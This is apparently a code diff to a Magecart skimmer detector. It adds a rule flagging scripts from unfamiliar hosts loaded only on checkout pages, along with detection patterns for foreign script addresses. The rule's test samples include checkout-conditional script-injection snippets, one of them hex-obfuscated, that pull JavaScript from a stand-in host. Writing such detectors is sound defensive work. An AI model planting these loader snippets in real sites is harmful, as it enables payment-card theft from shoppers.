@@ -9,6 +9,7 @@ import {
   anyOf,
   calls,
   flow,
+  near,
   onlyPasswordsMasked,
   otherHosts,
   paths,
@@ -21,7 +22,7 @@ import {
   unmasked,
 } from './finders.ts';
 import { redirectsElsewhere } from './redirects.ts';
-import { imitatesService } from './services.ts';
+import { imitatesService, isService } from './services.ts';
 
 const checkoutWords = [
   'checkout',
@@ -42,6 +43,11 @@ const MAX_NODES = 40;
 /** Comparisons of the URL with words for a checkout: `location.href.indexOf('checkout')`. */
 function checkoutChecks({ reading, methods }: Facts): number[] {
   const { tree, values } = reading;
+  const wordsOf = (node: AnyNode): string =>
+    (node.type === 'Literal' && node.regex
+      ? node.regex.pattern
+      : (values.text(node) ?? '')
+    ).toLowerCase();
   const isCheck = (number: number): boolean => {
     const last = tree.lasts[number] ?? number;
     if (last - number > MAX_NODES) return false;
@@ -59,10 +65,14 @@ const isName = (node: AnyNode): boolean =>
 const withoutMethods = (path: string): string =>
   path.replace(/\.(?:toString|toLowerCase|indexOf|includes|match|search)$/, '');
 
-function wordsOf(node: AnyNode): string {
-  if (node.type !== 'Literal') return '';
-  return (typeof node.value === 'string' ? node.value : (node.regex?.pattern ?? '')).toLowerCase();
-}
+/** The URL of a script, or a tag that loads one, of another host that is not a well-known service. */
+const scriptAddress = /(?:^|<script\b[^>]*\ssrc\s*=\s*["']?)((?:https?:)?\/\/[^"'\s>]+\.js\b)/i;
+const foreignScripts: Finder = text(({ text: it }) => {
+  const [, address] = scriptAddress.exec(it) ?? [];
+  return address !== undefined && !isService(address);
+});
+/** Nodes between the check of the page and the URL. */
+const NEAR_CHECK = 80;
 
 const cardNumberPatterns = [
   '4[0-9]{12}',
@@ -397,6 +407,23 @@ export const magecartFeatures: readonly Feature[] = [
         `if (/onepage|checkout/.test(window.location.pathname)) go();`,
       ],
       other: [`if (location.href.indexOf('#top') > -1) go(); show('checkout');`],
+    },
+  },
+  {
+    id: 'checkout-script-loaded',
+    what: 'Loads a script from another host on checkout pages only',
+    points: 60,
+    shows: ['run'],
+    find: near(NEAR_CHECK, checkoutChecks, foreignScripts),
+    samples: {
+      matching: [
+        `if (/onepage|checkout/.test(location.href)) document.write('<script src="https://x.test/a.js"></script>');`,
+        `var n = ['\\x63heckout', '//x.test/a.js']; if (new RegExp(n[0]).test(window.location)) { var s = document.createElement('script'); s.src = n[1]; document.head.append(s); }`,
+      ],
+      other: [
+        `if (/checkout/.test(location.href)) document.write('<script src="/pay.js"></script>');`,
+        `document.write('<script src="https://x.test/a.js"></script>');`,
+      ],
     },
   },
   {
